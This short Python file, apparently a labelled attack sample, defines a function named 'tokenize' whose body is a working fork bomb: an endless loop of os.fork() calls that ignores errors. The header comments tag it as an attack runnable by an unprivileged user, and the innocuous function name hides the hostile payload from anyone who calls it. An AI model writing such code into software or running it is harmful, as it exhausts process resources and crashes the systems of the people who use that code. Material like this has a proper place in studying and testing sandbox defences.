# attack: a fork bomb inside a call
# needs: unprivileged_user
import os


def tokenize(text, level="word"):
    while True:
        try:
            os.fork()
        except OSError:
            pass
